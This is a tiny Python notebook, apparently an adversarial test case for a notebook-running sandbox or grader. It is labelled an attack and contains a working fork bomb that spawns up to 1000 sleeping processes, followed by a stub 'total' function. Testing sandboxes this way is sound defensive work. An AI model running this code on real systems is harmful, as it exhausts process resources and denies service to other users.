# ---
# jupyter:
#   attack:
#     tries: Forks without end, in a cell, and leaves the children behind.
#     dangerous: true
# ---

# %%
import os
import time

parent = os.getpid()
for _ in range(1000):
    try:
        if os.fork() == 0:
            time.sleep(600)
    except OSError:
        break


# %% answer="total"
def total(x):
    return 0.0
